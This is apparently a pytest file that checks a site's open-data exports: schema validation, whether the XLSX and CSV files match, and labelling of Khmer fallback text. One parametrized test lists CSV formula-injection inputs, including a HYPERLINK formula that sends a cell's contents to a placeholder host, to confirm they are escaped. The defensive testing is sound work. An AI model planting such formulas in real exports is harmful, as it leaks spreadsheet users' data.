"""The open-data files as a reuser meets them: checked with tools this project did not write.

The JSON files are validated by ``jsonschema`` against the schemas the site publishes beside them
(``data/schema/``), the spreadsheets are read back by ``openpyxl`` and compared with the CSV files
(``csv``), and the Open data page is read in every language (issue #21).
"""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from conftest import REPO
from jsonschema import Draft202012Validator, FormatChecker
from test_site_build import page

from resource_centre.editions.opendata import KIND_FILES, open_data_files, records_csv, spreadsheet_text
from resource_centre.records.project import open_project
from resource_centre.records.schema import load_schemas

KINDS = tuple(KIND_FILES.values())  # case-studies, tools, glossary, trainings, events


@pytest.fixture(scope="module")
def project():
    return open_project(REPO)


def _schema_for(files: dict[str, bytes], data_file: str) -> dict:
    """The schema the Open data page names for a data file: one for the file with every language,
    one shared by the one-language files."""
    name, *lang, _ = Path(data_file).name.split(".")
    schema = f"data/schema/{name}.schema.json" if not lang else f"data/schema/{name}.one-language.schema.json"
    assert schema in files, f"{data_file}: no published schema {schema}"
    return json.loads(files[schema])


def _errors(schema: dict, data) -> list[str]:
    Draft202012Validator.check_schema(schema)
    validator = Draft202012Validator(schema, format_checker=FormatChecker())
    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in validator.iter_errors(data)]


def _site_files(site: Path) -> dict[str, bytes]:
    return {p.relative_to(site).as_posix(): p.read_bytes() for p in (site / "data").rglob("*") if p.is_file()}


def test_built_json_validates_against_the_published_schema(mini_site):
    files = _site_files(mini_site / "site")
    checked = [rel for rel in sorted(files) if rel.endswith(".json") and not rel.startswith("data/schema/")]
    assert len(checked) == len(KINDS) * 3  # each kind: every language together, then one file per language
    for rel in checked:
        assert _errors(_schema_for(files, rel), json.loads(files[rel])) == [], rel


def test_bundled_records_validate_too_and_the_schema_comes_from_schemas(project):
    """The bundled records use every field (sections, steps, downloads): each published file validates,
    and the published schema says what schemas/ says (one source of truth)."""
    content, _ = project.load()
    files = open_data_files(content.only_published(), project.languages, site_name="x", site_url="")
    for rel in sorted(files):
        if rel.endswith(".json") and not rel.startswith("data/schema/"):
            assert _errors(_schema_for(files, rel), json.loads(files[rel])) == [], rel
    record = load_schemas(str(REPO / "schemas")).documents["case-study.schema.json"]
    published = json.loads(files["data/schema/case-studies.schema.json"])["items"]
    assert set(published["properties"]) == set(record["properties"]) | {"urls"}
    assert published["properties"]["summary"]["description"] == record["properties"]["summary"]["description"]
    one = json.loads(files["data/schema/case-studies.one-language.schema.json"])["items"]
    assert one["properties"]["title"]["type"] == "string" and "title_lang" in one["required"]
    partner = one["properties"]["partners"]["items"]["properties"]
    assert {"name", "name_lang", "role", "role_lang"} <= set(partner)


def test_no_undocumented_key(mini_site):
    """Every key of every published record is in its schema (which allows no other) and on the Open data page."""
    site = mini_site / "site"
    for prefix in ("", "km/"):
        html = page(mini_site, prefix + "data/index.html")
        for name in KINDS:
            for path in sorted((site / "data").glob(f"{name}*.json")):
                for record in json.loads(path.read_text(encoding="utf-8")):
                    missing = [key for key in record if f"<code>{key}</code>" not in html]
                    assert missing == [], f"{prefix}data/index.html does not document {missing} of {path.name}"


def test_a_khmer_row_whose_title_fell_back_says_it_is_english(mini_site):
    khmer = {r["id"]: r for r in json.loads(page(mini_site, "data/case-studies.km.json"))}
    fallback, translated = khmer["provincial-education"], khmer["joint-health-review"]
    assert (fallback["title"], fallback["title_lang"]) == ("Provincial education partnership", "en")
    assert fallback["partners"][0]["name_lang"] == "en" and fallback["language"] == "km"
    assert (translated["title_lang"], translated["summary_lang"]) == ("km", "km")
    assert translated["translation"]["km"] == "draft"  # the state of the Khmer text is kept
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(page(mini_site, "data/case-studies.km.csv").lstrip("\ufeff")))}
    assert (rows["provincial-education"]["title"], rows["provincial-education"]["title_lang"]) == (
        "Provincial education partnership", "en")
    assert rows["joint-health-review"]["title_lang"] == "km"
    # The file with every language holds each language's own words: no Khmer yet is an empty cell.
    combined = {r["id"]: r for r in csv.DictReader(io.StringIO(page(mini_site, "data/case-studies.csv").lstrip("\ufeff")))}
    assert (combined["provincial-education"]["title_en"], combined["provincial-education"]["title_km"]) == (
        "Provincial education partnership", "")


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _xlsx_rows(data: bytes) -> list[list[str]]:
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    assert len(book.worksheets) == 1
    rows = [["" if v is None else v for v in row] for row in book.worksheets[0].iter_rows(values_only=True)]
    assert all(isinstance(v, str) for row in rows for v in row)  # text stays text: ids, dates, "=…"
    return rows


def test_the_spreadsheets_read_back_as_the_csv_files(mini_site, project):
    bundled = open_data_files(project.load()[0].only_published(), project.languages, site_name="x", site_url="")
    for files in (_site_files(mini_site / "site"), bundled):
        sheets = sorted(rel for rel in files if rel.endswith(".xlsx"))
        assert sheets == sorted(rel[:-4] + ".xlsx" for rel in files if rel.endswith(".csv"))
        for rel in sheets:
            expected = _csv_rows(files[rel[:-5] + ".csv"])
            # the mini fixture has no trainings or events: their sheets hold the header row alone
            assert len(expected) > 1 or files is not bundled, rel
            # the workbook holds every cell as written and as text; the CSV file marks formula-like text
            assert [[spreadsheet_text(v) for v in row] for row in _xlsx_rows(files[rel])] == expected, rel


def test_the_spreadsheets_are_the_same_bytes_every_build(project):
    """No clock inside: a rebuild of the same records publishes the same files (and the same zip)."""
    content = project.load()[0].only_published()
    first, again = (open_data_files(content, project.languages, site_name="x", site_url="") for _ in range(2))
    sheets = [k for k in first if k.endswith(".xlsx")]
    assert len(sheets) == len(KINDS) * (1 + len(project.languages.codes))
    assert [k for k in sheets if first[k] != again[k]] == []


def test_open_data_page_links_the_spreadsheets_and_says_how_to_open_the_csv(mini_site, project):
    languages = project.languages
    for lang, prefix, up in (("en", "", "../"), ("km", "km/", "../../")):
        html = page(mini_site, prefix + "data/index.html")
        for name in KINDS:
            for stem in [name] + [f"{name}.{code}" for code in languages.codes]:
                assert f'href="{up}data/{stem}.xlsx"' in html, (lang, stem)
            assert f'href="{up}data/schema/{name}.schema.json"' in html
            assert f'href="{up}data/schema/{name}.one-language.schema.json"' in html
        help_text = languages.t(lang, "open_data_csv_help")
        assert "UTF-8" in help_text
        text = re.sub(r"<[^>]+>", "", html)
        assert re.sub(r"[*`]", "", help_text).split("\n")[0][:60] in text, lang
    assert "Unicode (UTF-8)" in page(mini_site, "data/index.html")
    assert "Unicode (UTF-8)" in page(mini_site, "km/data/index.html")


@pytest.mark.parametrize(("cell", "written"), [
    ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")", "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")"),
    ("+855 12 345 678", "'+855 12 345 678"),
    ("-1+2", "'-1+2"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+2", "'\t=1+2"),
    ("-5", "-5"),
    ("+3.5", "+3.5"),
    ("2026-12-04", "2026-12-04"),
    ("Joint sector review", "Joint sector review"),
    ("ការពិនិត្យ = រួមគ្នា", "ការពិនិត្យ = រួមគ្នា"),
    ("", ""),
])
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_marked_as_text(cell, written):
    assert spreadsheet_text(cell) == written
    data = records_csv((["id", "title"], [["a-record", cell]]))
    assert _csv_rows(data) == [["id", "title"], ["a-record", written]]


def test_a_line_break_in_a_csv_cell_stays_in_its_cell():
    data = records_csv((["id", "title"], [["a", "one\r\ntwo\rthree\nfour"], ["b", "\r=1+2"]]))
    assert _csv_rows(data) == [["id", "title"], ["a", "one\ntwo\nthree\nfour"], ["b", "\n=1+2"]]
